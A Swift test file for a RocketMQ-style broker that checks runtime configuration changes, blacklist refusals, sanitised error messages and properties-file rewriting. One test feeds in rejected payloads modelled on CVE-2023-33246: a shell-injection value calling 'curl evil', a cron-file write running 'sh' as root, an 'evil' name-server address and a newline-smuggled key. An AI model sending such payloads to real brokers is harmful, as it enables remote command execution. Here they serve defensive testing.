import MQProtocol
import MQStore
import NIOCore
import Testing

@testable import MQBroker

@Suite("Changing the configuration by request")
struct ConfigurationChangeTests {
    private func apply(
        _ text: String, protectedKeys: [String] = []
    ) throws(RequestError) -> BrokerConfiguration {
        var configuration = BrokerConfiguration()
        try ConfigurationChange(parsing: text, protectedKeys: protectedKeys).apply(to: &configuration)
        return configuration
    }

    @Test("What may change while the broker runs")
    func allowed() throws {
        let configuration = try apply(
            "brokerPermission=4\nautoCreateTopicEnable=false\ntransactionCheckInterval=5000\n")
        #expect(configuration.permission == 4)
        #expect(!configuration.topics.createOnSend)
        #expect(configuration.transactions.checkInterval == .seconds(5))
        let retention = try apply("fileReservedTime=24\ndeleteWhen=03;15\ndiskMaxUsedSpaceRatio=5\n")
        #expect(retention.storage.retention == .seconds(24 * 3600))
        #expect(retention.storage.deleteHours == [3, 15])
        #expect(retention.storage.diskUsePercent == 10)
    }

    @Test(
        "The payloads of CVE-2023-33246 and what resembles them are refused",
        arguments: [
            "filterServerNums=1\nrocketmqHome=-c $@|sh . echo curl evil;\n", "rocketmqHome=/tmp\n",
            "brokerConfigPath=/etc/cron.d/x\nbrokerName=* * * * * root sh\n", "configBlackList=\n",
            "storePathRootDir=/etc\n", "storePathCommitLog=/tmp/x\n", "kvConfigPath=/tmp/x\n",
            "namesrvAddr=evil:9876\n",
            "messageStorePlugIn=Evil\n", "filterServerNums=1\n", "brokerName=x\\nrocketmqHome=y\n", "listenPort=1\n",
            "dLegerPeers=n0-evil:1\n", "regionId=x\n", "maxMessageSize=1\n",
        ])
    func refused(text: String) {
        let error = #expect(throws: RequestError.self) { _ = try apply(text) }
        #expect(error?.code == .noPermission)
    }

    @Test("A refusal names the key, and changes nothing of the rest")
    func allOrNothing() {
        var configuration = BrokerConfiguration()
        let unknown = #expect(throws: RequestError.self) {
            try ConfigurationChange(parsing: "brokerPermission=4\nnoSuchKey=1", protectedKeys: []).apply(
                to: &configuration)
        }
        #expect(unknown?.remark.contains("noSuchKey") == true)
        let invalid = #expect(throws: RequestError.self) {
            try ConfigurationChange(parsing: "brokerPermission=4\ntraceOn=maybe", protectedKeys: []).apply(
                to: &configuration)
        }
        #expect(invalid?.remark.contains("traceOn=maybe") == true)
        #expect(configuration == BrokerConfiguration())
    }

    @Test("The black list has RocketMQ's text, and the operator's keys")
    func blackList() {
        let built = #expect(throws: RequestError.self) { _ = try apply("rocketmqHome=/x") }
        #expect(built?.remark == "Can not update config in black list.")
        let own = #expect(throws: RequestError.self) {
            _ = try apply("brokerPermission=4", protectedKeys: ["brokerPermission"])
        }
        #expect(own?.remark == "Can not update config in black list.")
    }

    @Test("A foreign text is shown in part and without control characters")
    func remarks() {
        let key = "\u{1B}[2J" + String(repeating: "k", count: 500)
        let error = #expect(throws: RequestError.self) { _ = try apply("\(key)=1") }
        #expect((error?.remark.utf8.count ?? 999) < 120)
        #expect(error?.remark.unicodeScalars.contains("\u{1B}") == false)
        #expect(throws: RequestError.self) { _ = try apply(String(repeating: "a", count: 70_000)) }
    }

    @Test("Nothing that only changes at a restart is said to have changed")
    func mutableKeysAct() {
        for key in ConfigurationKeys.all where key.isMutable {
            guard case .acts = key.effect else {
                Issue.record("\(key.name) changes nothing and must not be mutable")
                continue
            }
        }
    }
}

@Suite("Writing a change back to the file")
struct PropertiesTextTests {
    @Test("Other lines stay as they are")
    func keepsOtherLines() {
        let text = "# my broker\nbrokerName = a\n\nbrokerPermission=6   \n! end\n"
        let expected = "# my broker\nbrokerName = a\n\nbrokerPermission=4\n! end\n"
        #expect(PropertiesText.setting([("brokerPermission", "4")], in: text) == expected)
    }

    @Test("A new key is appended, a repeated one is left once, a continued one is replaced whole")
    func places() {
        #expect(PropertiesText.setting([("traceOn", "false")], in: "a=1") == "a=1\ntraceOn=false\n")
        #expect(
            PropertiesText.setting([("traceOn", "false")], in: "traceOn=true\na=1\ntraceOn=true\n")
                == "a=1\ntraceOn=false\n")
        #expect(
            PropertiesText.setting([("traceOn", "false")], in: "traceOn=\\\n  true\na=1\n") == "traceOn=false\na=1\n")
        #expect(PropertiesText.setting([("a", "1")], in: "# c \\\na=2\n") == "# c \\\na=1\n")
    }

    @Test("A value cannot bring a second line")
    func escaping() {
        let text = PropertiesText.setting([("a", "1\nrocketmqHome=/x")], in: "")
        #expect(PropertiesFile(parsing: text).entries.map(\.key) == ["a"])
    }

    @Test("The file is replaced as a whole and its last text kept")
    func file() throws {
        let device = SimulatedDevice(seed: 3)
        try device.createDirectory("conf")
        let original = "brokerName=a\ntraceOn=true\n"
        let plain = try device.open("conf/broker.conf", .create)
        try plain.write(ByteBuffer(string: original), at: 0)
        let file = ConfigurationFile(path: "conf/broker.conf", device: device)
        try file.set([("traceOn", "false")])
        #expect(
            try device.contents(of: "conf/broker.conf").map { String(buffer: $0) } == "brokerName=a\ntraceOn=false\n")
        #expect(try device.contents(of: "conf/broker.conf.bak").map { String(buffer: $0) } == original)
    }
}
